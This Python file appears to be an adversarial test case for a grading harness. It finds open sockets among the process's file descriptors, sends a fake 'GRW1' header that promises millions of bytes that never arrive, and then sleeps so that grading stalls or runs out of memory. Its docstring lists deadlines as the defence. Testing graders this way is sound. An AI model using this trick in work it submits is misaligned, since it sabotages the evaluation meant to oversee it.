"""Promises a reply of bytes that never come.

Success: grading takes far longer, or more memory, than the limits say.
Stopped by: deadlines
Report: did not return|no value
"""

import os
import stat
import struct
import time

import msgspec


def steps(n, height=2):
    head = msgspec.msgpack.encode([["t", 2, "ok", ["a", "|i1", [2**23]], ["l"]], [2**23]])
    for number in range(3, 40):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, struct.pack("<4sI", b"GRW1", len(head)) + head)
                time.sleep(100)
        except OSError:
            continue
